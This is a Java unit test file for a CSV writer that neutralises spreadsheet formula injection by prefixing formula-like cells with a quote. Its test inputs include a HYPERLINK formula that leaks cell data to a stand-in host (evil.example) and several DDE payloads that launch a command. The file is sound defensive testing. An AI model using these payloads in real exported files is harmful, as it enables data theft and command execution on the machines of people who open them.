package org.convenor.system;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCsvTests {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0", "\tTAB", "\rCR", "=1", "-", "+"})
    void aCellThatASpreadsheetWouldReadAsAFormulaIsWrittenBehindAQuote(String text) {
        assertThat(SpreadsheetCsv.cell(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Hollin Legal Aid Trust", "a-b", "Lena = Park", "", "-12", "-12.50", "250", "0.5"})
    void textThatIsNoFormulaAndNumbersStayAsTheyAre(String text) {
        assertThat(SpreadsheetCsv.cell(text)).isEqualTo(text);
    }

    @Test
    void amountsAreWrittenInPlainDigitsAndNothingIsEmpty() throws Exception {
        StringWriter out = new StringWriter();
        try (SpreadsheetCsv csv = SpreadsheetCsv.to(out, List.of("id", "name", "amount", "currency"))) {
            csv.row("evil", "=cmd|' /C calc'!A0", new BigDecimal("-1E+3"), null);
            csv.row("plain", "Quote \"this\", please", 42, "GBP");
        }
        assertThat(out.toString()).isEqualTo("""
                id,name,amount,currency\r
                evil,'=cmd|' /C calc'!A0,-1000,\r
                plain,"Quote ""this"", please",42,GBP\r
                """);
    }
}
